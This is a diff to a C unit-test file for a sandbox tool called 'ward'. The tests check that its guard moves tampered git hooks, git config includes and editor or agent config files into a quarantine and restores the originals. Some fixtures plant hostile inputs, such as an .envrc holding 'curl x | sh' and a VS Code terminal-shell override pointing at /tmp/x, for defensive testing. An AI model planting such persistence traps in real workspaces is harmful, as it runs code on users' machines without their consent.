@@ -791,11 +791,14 @@ static void t_protect_home_bwrap(void **state)
 	    find_opt(argv, "--bind", P(fx, "home/.config"), NULL) <
 	    find_opt(argv, "--ro-bind", P(fx, "home/.config/ward"), NULL));
 	ward_strv_free(argv);
-	/* The session store: $HOME/.local/state/ward, workspace = $HOME. */
+	/* The state directory (session store): $HOME/.local/state/ward,
+	 * workspace = $HOME. Hidden: an empty read-only tmpfs. */
 	policy_with(fx, WARD_MODE_WORKSPACE_WRITE, "home", "");
 	argv = bwrap_argv(fx->policy);
-	assert_true(find_opt(argv, "--ro-bind", P(fx, "home/.local/state/ward"),
+	assert_true(find_opt(argv, "--tmpfs", P(fx, "home/.local/state/ward"),
 			     NULL) > 0);
+	assert_true(find_opt(argv, "--remount-ro",
+			     P(fx, "home/.local/state/ward"), NULL) > 0);
 	assert_true(find_opt(argv, "--bind", P(fx, "home/.local"), NULL) > 0);
 	assert_true(find_opt(argv, "--bind", P(fx, "home/.local/state"), NULL) >
 		    0);
@@ -1504,6 +1507,41 @@ static char *slurp(const struct fx *fx, const char *rel)
 	return t;
 }
 
+/*
+ * Where the guard put @rel (a fixture path) in the quarantine, read: the
+ * quarantine is $HOME/.local/state/ward/quarantine/<id>/<absolute path>,
+ * the newest <id> wins. NULL when it is not there.
+ */
+static char *quarantined(const struct fx *fx, const char *rel)
+{
+	char dir[PATH_MAX], best[NAME_MAX + 1] = "", p[2 * PATH_MAX];
+	struct dirent *e;
+	DIR *d;
+
+	snprintf(dir, sizeof(dir), "%s/home/.local/state/ward/quarantine",
+		 fx->base);
+	d = opendir(dir);
+	if (!d)
+		return NULL;
+	while ((e = readdir(d))) {
+		if (e->d_name[0] != '.' && strcmp(e->d_name, best) > 0)
+			snprintf(best, sizeof(best), "%s", e->d_name);
+	}
+	closedir(d);
+	snprintf(p, sizeof(p), "%s/%s%s", dir, best, P(fx, rel));
+	return read_file(p);
+}
+
+/* Whether anything named *ward-quarantine* lies below @rel. */
+static bool quarantine_inside(const struct fx *fx, const char *rel)
+{
+	char cmd[PATH_MAX + 64];
+
+	snprintf(cmd, sizeof(cmd),
+		 "find '%s' -name '*ward-quarantine*' | grep -q .", P(fx, rel));
+	return system(cmd) == 0;
+}
+
 static void t_guard(void **state)
 {
 	struct fx *fx = *state;
@@ -1534,59 +1572,214 @@ static void t_guard(void **state)
 	xwrite(fx->base, "ws/.git/index", "i\n");
 	notes = guard_run(g);
 	assert_int_equal(count_lines(notes, "ward: ", "commondir", "appeared",
-				     "moved aside", NULL),
+				     "moved to", NULL),
 			 1);
 	assert_int_equal(
-	    count_lines(notes, "hooks/pre-commit", "added to", NULL), 1);
+	    count_lines(notes, "hooks/pre-commit", "appeared", NULL), 1);
 	assert_int_equal(count_lines(notes, ".git/config ", "changed",
-				     "original is back", NULL),
+				     "original put back", NULL),
 			 1);
 	assert_int_equal(
 	    count_lines(notes, "config.worktree", "appeared", NULL), 1);
 	assert_int_equal(count_lines(notes, "index", NULL), 0);
 	ward_strv_free(notes);
 	assert_int_equal(lstat(P(fx, "ws/.git/commondir"), &st), -1);
-	assert_int_equal(
-	    lstat(P(fx, "ws/.git/commondir.ward-quarantine-1"), &st), 0);
 	assert_int_equal(lstat(P(fx, "ws/.git/hooks/pre-commit"), &st), -1);
-	assert_int_equal(
-	    lstat(P(fx, "ws/.git/hooks/pre-commit.ward-quarantine-1"), &st), 0);
 	assert_int_equal(lstat(P(fx, "ws/.git/hooks/pre-push.sample"), &st), 0);
 	assert_int_equal(lstat(P(fx, "ws/.git/config.worktree"), &st), -1);
 	t = slurp(fx, "ws/.git/config");
 	assert_string_equal(t, "[core]\n");
 	free(t);
-	t = slurp(fx, "ws/.git/config.ward-quarantine-1");
+	/* Everything moved lies in the quarantine, outside the repository
+	 * (git never reads it; no confined run can reach it). */
+	t = quarantined(fx, "ws/.git/config");
+	assert_non_null(t);
 	assert_non_null(strstr(t, "fsmonitor"));
 	free(t);
+	t = quarantined(fx, "ws/.git/commondir");
+	assert_non_null(t);
+	free(t);
+	t = quarantined(fx, "ws/.git/hooks/pre-commit");
+	assert_non_null(t);
+	free(t);
+	assert_false(quarantine_inside(fx, "ws"));
 	/* The same guard again: everything is as it was. */
 	notes = guard_run(g);
 	assert_null(notes[0]);
 	ward_strv_free(notes);
 	ward_protect_guard_free(g);
 
-	/* A second planted commondir gets the next quarantine name. */
-	assert_int_equal(ward_protect_guard_new(&g, fx->policy), 0);
-	xwrite(fx->base, "ws/.git/commondir", "../evil\n");
-	notes = guard_run(g);
-	ward_strv_free(notes);
-	assert_int_equal(
-	    lstat(P(fx, "ws/.git/commondir.ward-quarantine-2"), &st), 0);
-	ward_protect_guard_free(g);
-
-	/* .git replaced wholesale: the new one is moved aside. */
+	/* .git replaced wholesale: the new one is moved away. */
 	assert_int_equal(ward_protect_guard_new(&g, fx->policy), 0);
 	assert_int_equal(rename(P(fx, "ws/.git"), P(fx, "ws/old")), 0);
 	xmkdir(fx->base, "ws/.git");
 	xmkdir(fx->base, "ws/.git/hooks");
 	xwrite(fx->base, "ws/.git/hooks/pre-commit", "#!/bin/sh\n");
 	notes = guard_run(g);
-	assert_true(count_lines(notes, "ws/.git ", "replaced", NULL) +
-			count_lines(notes, "ws/.git (", "changed", NULL) >=
-		    1);
+	assert_true(count_lines(notes, "ws/.git ", "replaced", NULL) >= 1);
 	assert_int_equal(lstat(P(fx, "ws/.git"), &st), -1);
-	assert_int_equal(lstat(P(fx, "ws/.git.ward-quarantine-1"), &st), 0);
 	ward_strv_free(notes);
+	ward_protect_guard_free(g);
+	assert_int_equal(rename(P(fx, "ws/old"), P(fx, "ws/.git")), 0);
+}
+
+/*
+ * Content, not size and time: a hook overwritten in place with as many
+ * bytes, its time stamps put back, is found and put back; so are a
+ * removed hook and changed permission bits.
+ */
+static void t_guard_content(void **state)
+{
+	struct fx *fx = *state;
+	struct ward_protect_guard *g = NULL;
+	struct timespec ts[2];
+	struct stat before, st;
+	char **notes, *t;
+
+	xwrite(fx->base, "ws/.git/hooks/pre-commit", "#!/bin/sh\necho ok\n");
+	assert_int_equal(chmod(P(fx, "ws/.git/hooks/pre-commit"), 0755), 0);
+	xwrite(fx->base, "ws/.git/hooks/post-merge", "#!/bin/sh\n");
+	assert_int_equal(stat(P(fx, "ws/.git/hooks/pre-commit"), &before), 0);
+	policy_with(fx, WARD_MODE_WORKSPACE_WRITE, "ws", "");
+	assert_int_equal(ward_protect_guard_new(&g, fx->policy), 0);
+
+	xwrite(fx->base, "ws/.git/hooks/pre-commit", "#!/bin/sh\necho PW\n");
+	ts[0] = before.st_atim;
+	ts[1] = before.st_mtim;
+	assert_int_equal(
+	    utimensat(AT_FDCWD, P(fx, "ws/.git/hooks/pre-commit"), ts, 0), 0);
+	assert_int_equal(stat(P(fx, "ws/.git/hooks/pre-commit"), &st), 0);
+	assert_int_equal(st.st_size, before.st_size);
+	assert_int_equal(st.st_mtim.tv_sec, before.st_mtim.tv_sec);
+	assert_int_equal(st.st_mtim.tv_nsec, before.st_mtim.tv_nsec);
+	assert_int_equal(unlink(P(fx, "ws/.git/hooks/post-merge")), 0);
+	assert_int_equal(chmod(P(fx, "ws/.git/hooks"), 0777), 0);
+
+	notes = guard_run(g);
+	assert_int_equal(count_lines(notes, "hooks/pre-commit", "changed",
+				     "original put back", NULL),
+			 1);
+	assert_int_equal(
+	    count_lines(notes, "hooks/post-merge", "removed", NULL), 1);
+	assert_int_equal(count_lines(notes, "permissions", NULL), 1);
+	ward_strv_free(notes);
+	t = slurp(fx, "ws/.git/hooks/pre-commit");
+	assert_string_equal(t, "#!/bin/sh\necho ok\n");
+	free(t);
+	assert_int_equal(stat(P(fx, "ws/.git/hooks/pre-commit"), &st), 0);
+	assert_int_equal(st.st_mode & 07777, 0755);
+	t = slurp(fx, "ws/.git/hooks/post-merge");
+	free(t);
+	assert_int_equal(stat(P(fx, "ws/.git/hooks"), &st), 0);
+	assert_int_equal(st.st_mode & 07777, 0755);
+	t = quarantined(fx, "ws/.git/hooks/pre-commit");
+	assert_non_null(t);
+	assert_string_equal(t, "#!/bin/sh\necho PW\n");
+	free(t);
+	ward_protect_guard_free(g);
+}
+
+/*
+ * No entry cap: entries added in any number are all moved away, and the
+ * next call's guard works; a tree too large to snapshot fails the call
+ * (before anything runs) with a detail that says what to do.
+ */
+static void t_guard_flood(void **state)
+{
+	struct fx *fx = *state;
+	struct ward_protect_guard *g = NULL;
+	char name[64], **notes;
+	size_t left = 0;
+	struct dirent *e;
+	DIR *d;
+
+	policy_with(fx, WARD_MODE_WORKSPACE_WRITE, "ws", "");
+	assert_int_equal(ward_protect_guard_new(&g, fx->policy), 0);
+	for (int i = 0; i < 5000; i++) {
+		snprintf(name, sizeof(name), "ws/.git/hooks/f%d", i);
+		xwrite(fx->base, name, "x\n");
+	}
+	xwrite(fx->base, "ws/.git/hooks/pre-commit", "#!/bin/sh\n");
+	notes = guard_run(g);
+	assert_int_equal(count_lines(notes, "appeared", "4996 more", NULL), 1);
+	ward_strv_free(notes);
+	d = opendir(P(fx, "ws/.git/hooks"));
+	assert_non_null(d);
+	while ((e = readdir(d)))
+		left += e->d_name[0] != '.';
+	closedir(d);
+	assert_int_equal(left, 0);
+	ward_protect_guard_free(g);
+	/* The next call is guarded as before. */
+	assert_int_equal(ward_protect_guard_new(&g, fx->policy), 0);
+	xwrite(fx->base, "ws/.git/hooks/pre-commit", "#!/bin/sh\n");
+	notes = guard_run(g);
+	assert_int_equal(count_lines(notes, "pre-commit", "appeared", NULL), 1);
+	ward_strv_free(notes);
+	ward_protect_guard_free(g);
+
+	/* More entries than a snapshot holds: the call must not run. */
+	for (int i = 0; i < 20001; i++) {
+		snprintf(name, sizeof(name), "ws/.git/hooks/f%d", i);
+		xwrite(fx->base, name, "");
+	}
+	g = NULL;
+	assert_int_equal(ward_protect_guard_new(&g, fx->policy), WARD_EINVAL);
+	assert_null(g);
+	assert_non_null(strstr(ward_error_last(), "cannot check"));
+	assert_non_null(strstr(ward_error_last(), ".git/hooks"));
+	assert_non_null(strstr(ward_error_last(), "was not run"));
+	assert_non_null(strstr(ward_error_last(), "unprotect"));
+}
+
+/* The traps beside git, missing or not; released ones are not guarded. */
+static void t_guard_traps(void **state)
+{
+	struct fx *fx = *state;
+	struct ward_protect_guard *g = NULL;
+	char *const released[] = {(char *)P(fx, "ws/.idea"), NULL};
+	char **notes, *t;
+	struct stat st;
+
+	xmkdir(fx->base, "ws/.vscode");
+	xwrite(fx->base, "ws/.vscode/settings.json", "{}\n");
+	policy_with(fx, WARD_MODE_WORKSPACE_WRITE, "ws", "");
+	assert_int_equal(ward_policy_set_unprotected(fx->policy, released), 0);
+	assert_int_equal(ward_protect_guard_new(&g, fx->policy), 0);
+	xwrite(fx->base, "ws/.vscode/settings.json",
+	       "{\"terminal.integrated.shell.linux\": \"/tmp/x\"}\n");
+	xmkdir(fx->base, "ws/.vscode/sub");
+	xwrite(fx->base, "ws/.vscode/tasks.json", "{}\n");
+	xwrite(fx->base, "ws/.envrc", "curl x | sh\n");
+	xwrite(fx->base, "ws/.mcp.json", "{}\n");
+	xmkdir(fx->base, "ws/.claude");
+	xmkdir(fx->base, "ws/.ward");
+	xmkdir(fx->base, "ws/.idea");
+	xwrite(fx->base, "ws/.idea/workspace.xml", "<x/>\n");
+	notes = guard_run(g);
+	assert_int_equal(count_lines(notes, "settings.json", "changed", NULL),
+			 1);
+	assert_int_equal(count_lines(notes, "appeared", ".vscode/sub",
+				     ".vscode/tasks.json", NULL),
+			 1);
+	assert_int_equal(count_lines(notes, "ws/.envrc", "appeared", NULL), 1);
+	assert_int_equal(count_lines(notes, "ws/.mcp.json", "appeared", NULL),
+			 1);
+	assert_int_equal(count_lines(notes, "ws/.claude", "appeared", NULL), 1);
+	assert_int_equal(count_lines(notes, "ws/.ward", "appeared", NULL), 1);
+	assert_int_equal(count_lines(notes, ".idea", NULL), 0);
+	ward_strv_free(notes);
+	t = slurp(fx, "ws/.vscode/settings.json");
+	assert_string_equal(t, "{}\n");
+	free(t);
+	assert_int_equal(lstat(P(fx, "ws/.envrc"), &st), -1);
+	assert_int_equal(lstat(P(fx, "ws/.ward"), &st), -1);
+	assert_int_equal(lstat(P(fx, "ws/.vscode/tasks.json"), &st), -1);
+	assert_int_equal(lstat(P(fx, "ws/.idea/workspace.xml"), &st), 0);
+	t = quarantined(fx, "ws/.envrc");
+	assert_non_null(t);
+	assert_string_equal(t, "curl x | sh\n");
+	free(t);
 	ward_protect_guard_free(g);
 }
 
@@ -1612,7 +1805,7 @@ static void t_guard_symlink(void **state)
 	xsymlink(fx->base, "lk/.git", "evil");
 	notes = guard_run(g);
 	assert_int_equal(
-	    count_lines(notes, "lk/.git ", "original is back", NULL), 1);
+	    count_lines(notes, "lk/.git ", "original put back", NULL), 1);
 	ward_strv_free(notes);
 	n = readlink(P(fx, "lk/.git"), buf, sizeof(buf) - 1);
 	assert_true(n > 0);
@@ -1632,6 +1825,139 @@ static void t_guard_symlink(void **state)
 	assert_int_equal(access(P(fx, "lk/evil/commondir"), F_OK), 0);
 	assert_int_equal(access(P(fx, "lk/evil/config"), F_OK), -1);
 	ward_protect_guard_free(g);
+}
+
+/*
+ * What the repository's configuration names: core.hooksPath, include.path
+ * and includeIf.*.path (relative to the including file), followed inside
+ * the workspace and protected there (missing ones too); an include
+ * outside the workspace is not read; a hooks path that holds the
+ * workspace cannot be protected and a note says so.
+ */
+static void t_protect_gitconfig(void **state)
+{
+	struct fx *fx = *state;
+	char **notes = NULL;
+	char cfg[2 * PATH_MAX];
+
+	snprintf(cfg, sizeof(cfg),
+		 "[core]\n"
+		 "\trepositoryformatversion = 0\n"
+		 "\thooksPath = \".husky/_\" ; husky\n"
+		 "[include]\n"
+		 "\tpath = ../shared.gitconfig\n"
+		 "[includeIf \"gitdir:~/work/\"]\n"
+		 "\tpath = ../conf/missing.inc\n"
+		 "[include]\n"
+		 "\tpath = %s\n",
+		 P(fx, "out/outside.inc"));
+	xwrite(fx->base, "ws/.git/config", cfg);
+	/* Outside the workspace: protected where it lies (read-only
+	 * already) but never read, so what it names is not protected. */
+	snprintf(cfg, sizeof(cfg), "[core]\n\thooksPath = %s\n",
+		 P(fx, "ws/not-followed"));
+	xwrite(fx->base, "out/outside.inc", cfg);
+	xwrite(fx->base, "ws/shared.gitconfig",
+	       "[CORE] HOOKSPATH = tools/hooks\n"
+	       "[include] path = nested.inc\n");
+	xwrite(fx->base, "ws/nested.inc", "[core]\n\thookspath = deep/hooks\n");
+	policy_with(fx, WARD_MODE_WORKSPACE_WRITE, "ws", "");
+	assert_int_equal(ward_protect_match(fx->policy, P(fx, "ws/.husky/_/x")),
+			 WARD_ACCESS_RO);
+	assert_int_equal(
+	    ward_protect_match(fx->policy, P(fx, "ws/shared.gitconfig")),
+	    WARD_ACCESS_RO);
+	assert_int_equal(
+	    ward_protect_match(fx->policy, P(fx, "ws/tools/hooks")),
+	    WARD_ACCESS_RO);
+	assert_int_equal(ward_protect_match(fx->policy, P(fx, "ws/nested.inc")),
+			 WARD_ACCESS_RO);
+	assert_int_equal(ward_protect_match(fx->policy, P(fx, "ws/deep/hooks")),
+			 WARD_ACCESS_RO);
+	assert_int_equal(
+	    ward_protect_match(fx->policy, P(fx, "ws/conf/missing.inc")),
+	    WARD_ACCESS_RO);
+	assert_int_equal(ward_protect_match(fx->policy, P(fx, "ws/keep.txt")),
+			 WARD_ACCESS_DEFAULT);
+	assert_int_equal(
+	    ward_protect_match(fx->policy, P(fx, "ws/not-followed")),
+	    WARD_ACCESS_DEFAULT);
+	/* protect_git off releases them with the rest of git's traps. */
+	assert_int_equal(ward_policy_set_protect_git(fx->policy, false), 0);
+	assert_int_equal(
+	    ward_protect_match(fx->policy, P(fx, "ws/tools/hooks")),
+	    WARD_ACCESS_DEFAULT);
+	assert_int_equal(ward_protect_match(fx->policy, P(fx, "ws/.vscode")),
+			 WARD_ACCESS_RO);
+
+	/* A hooks path of "." would make the workspace read-only. */
+	xwrite(fx->base, "ws/.git/config", "[core]\n\thooksPath = .\n");
+	policy_with(fx, WARD_MODE_WORKSPACE_WRITE, "ws", "");
+	assert_int_equal(ward_protect_match(fx->policy, P(fx, "ws/keep.txt")),
+			 WARD_ACCESS_DEFAULT);
+	assert_int_equal(ward_protect_notes(&notes, fx->policy, true), 0);
+	dump("note", notes);
+	assert_int_equal(count_lines(notes, "core.hooksPath",
+				     "holds the "
+				     "writable root",
+				     NULL),
+			 1);
+	ward_strv_free(notes);
+	xwrite(fx->base, "ws/.git/config", "[core]\n");
+}
+
+/* unprotect releases git and trap paths, never ward's own. */
+static void t_unprotect(void **state)
+{
+	struct fx *fx = *state;
+	char *const released[] = {(char *)P(fx, "ws/.git/hooks"),
+				  (char *)P(fx, "ws/.vscode"),
+				  (char *)P(fx, "ws/.ward"), NULL};
+	char *const relative[] = {".vscode", NULL};
+
+	policy_with(fx, WARD_MODE_WORKSPACE_WRITE, "ws", "");
+	assert_int_equal(ward_policy_set_unprotected(fx->policy, relative),
+			 WARD_EINVAL);
+	assert_int_equal(ward_policy_set_unprotected(fx->policy, released), 0);
+	assert_int_equal(
+	    ward_protect_match(fx->policy, P(fx, "ws/.git/hooks/pre-commit")),
+	    WARD_ACCESS_DEFAULT);
+	assert_int_equal(
+	    ward_protect_match(fx->policy, P(fx, "ws/.vscode/tasks.json")),
+	    WARD_ACCESS_DEFAULT);
+	assert_int_equal(
+	    ward_protect_match(fx->policy, P(fx, "ws/.git/config")),
+	    WARD_ACCESS_RO);
+	assert_int_equal(ward_protect_match(fx->policy, P(fx, "ws/.ward/x")),
+			 WARD_ACCESS_RO);
+	assert_int_equal(ward_protect_match(fx->policy, P(fx, "ws/.envrc")),
+			 WARD_ACCESS_RO);
+}
+
+/* ward's state directory is hidden, in every mode, from the fence too. */
+static void t_protect_state_hidden(void **state)
+{
+	struct fx *fx = *state;
+	struct ward_fs_content c = {0};
+	struct ward_fs_denial d;
+
+	xmkdir(fx->base, "home/.local");
+	xmkdir(fx->base, "home/.local/state");
+	xmkdir(fx->base, "home/.local/state/ward");
+	xwrite(fx->base, "home/.local/state/ward/probe-cache", "x\n");
+	policy_with(fx, WARD_MODE_DANGER_FULL_ACCESS, "ws", "");
+	assert_int_equal(
+	    ward_protect_match(fx->policy, P(fx, "home/.local/state/ward/x")),
+	    WARD_ACCESS_NONE);
+	assert_int_equal(
+	    ward_protect_match(fx->policy, P(fx, "home/.config/ward/x")),
+	    WARD_ACCESS_RO);
+	assert_int_equal(
+	    ward_fs_read(&c, &d, fx->policy,
+			 P(fx, "home/.local/state/ward/probe-cache"), NULL),
+	    WARD_EDENIED);
+	assert_int_equal(d.reason, WARD_FS_DENIED_RULE_NO_ACCESS);
+	ward_fs_content_clear(&c);
 }
 
 int main(void)
@@ -1681,6 +2007,14 @@ int main(void)
 					    teardown),
 	    cmocka_unit_test_setup_teardown(t_guard, setup, teardown),
 	    cmocka_unit_test_setup_teardown(t_guard_symlink, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_guard_content, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_guard_flood, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_guard_traps, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_protect_gitconfig, setup,
+					    teardown),
+	    cmocka_unit_test_setup_teardown(t_unprotect, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_protect_state_hidden, setup,
+					    teardown),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
